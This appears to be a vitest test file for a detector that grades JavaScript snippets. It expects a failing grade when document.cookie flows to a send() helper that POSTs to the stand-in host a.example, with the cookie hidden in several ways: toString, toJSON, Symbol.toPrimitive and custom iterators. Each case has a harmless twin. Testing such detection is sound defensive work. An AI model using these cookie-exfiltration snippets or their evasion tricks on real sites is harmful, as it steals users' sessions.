import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
const gradeOf = (content: string): Promise<string> => graded({ content: `${SEND} ${content}` });

it.each([
  [
    "class A { constructor(c) { this.c = c; } toString() { return 'c=' + this.c; } } send(`${new A(document.cookie)}`);",
  ],
  [
    "class A { #l = []; add(c) { this.#l.push(c); } toString() { return this.#l.join(); } } const a = new A(); a.add(document.cookie); send('' + a);",
  ],
  ['const a = { v: document.cookie, toString() { return this.v; } }; send(`${a}`);'],
  ['class A { toJSON() { return { c: document.cookie }; } } send(JSON.stringify({ a: new A() }));'],
])('takes an object for what it is as a text: %s', async (content) => {
  expect(await gradeOf(content)).toBe('F');
});

it('takes it for nothing else that it holds', async () => {
  const named =
    "class A { constructor(c) { this.c = c; } toString() { return 'A'; } } send(`${new A(document.cookie)}`);";
  expect(await gradeOf(named)).not.toBe('F');
});

const K = 'const K = document.cookie;';

/** What is gone through turn by turn gives its elements, however it says them; each with a harmless twin. */
it.each([
  [
    'const all = [K][Symbol.iterator](); send(all.next().value);',
    'const all = [1][Symbol.iterator](); send(all.next().value);',
  ],
  [
    "const all = new Map([['a', K]])[Symbol.iterator](); send(all.next().value[1]);",
    "const all = new Map([['a', K]])[Symbol.iterator](); send(all.next().value[0]);",
  ],
  [
    'const o = { n: 0, next() { return { value: K, done: this.n++ > 0 }; }, [Symbol.iterator]() { return this; } }; for (const x of o) send(x);',
    'const o = { next() { return { value: 1, K, done: true }; }, [Symbol.iterator]() { return this; } }; for (const x of o) send(x);',
  ],
  [
    'const o = { [Symbol.iterator]() { return { next: () => ({ value: K, done: false }) }; } }; const [x] = o; send(x);',
    'const o = { [Symbol.iterator]() { return { next: () => ({ value: 1, done: K }) }; } }; const [x] = o; send(x);',
  ],
  [
    'class All { constructor(l) { this.l = l; } [Symbol.iterator]() { return this.l[Symbol.iterator](); } } for (const x of new All([K])) send(x);',
    'class All { constructor(l) { done(l); } [Symbol.iterator]() { return [1][Symbol.iterator](); } } for (const x of new All([K])) send(x);',
  ],
  [
    'const o = { async *[Symbol.asyncIterator]() { yield K; } }; (async () => { for await (const x of o) send(x); })();',
    'const o = { async *[Symbol.asyncIterator]() { yield 1; done(K); } }; (async () => { for await (const x of o) send(x); })();',
  ],
  ["const o = { toString: () => K }; send('x' + o);", "const o = { toString: () => 'x', K }; send('x' + o);"],
  [
    'const o = { [Symbol.toPrimitive]: () => K }; send(`${o}`);',
    'const o = { [Symbol.species]: () => K }; send(`${o}`);',
  ],
  ["const o = {}; o.toString = () => K; send('x' + o);", "const o = {}; o.toText = () => K; send('x' + o);"],
])('%s', async (harmful, harmless) => {
  expect(await gradeOf(`${K} ${harmful}`)).toBe('F');
  expect(await gradeOf(`${K} ${harmless}`)).not.toBe('F');
});
